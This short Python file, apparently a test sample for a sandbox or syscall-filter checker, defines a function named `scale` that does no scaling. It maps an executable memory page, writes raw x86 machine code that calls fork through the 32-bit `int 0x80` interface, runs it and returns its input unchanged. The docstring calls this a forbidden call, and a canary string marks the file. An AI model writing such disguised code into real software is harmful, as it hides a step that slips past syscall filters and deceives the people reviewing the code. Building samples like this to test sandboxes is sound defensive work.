"""Makes a forbidden call through the 32-bit interface."""

import ctypes
import mmap


def scale(values, factor):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")  # mov eax, 2 (fork); int 0x80; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    print("FILE-CANARY" + "-7f3a: int80", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
    return values
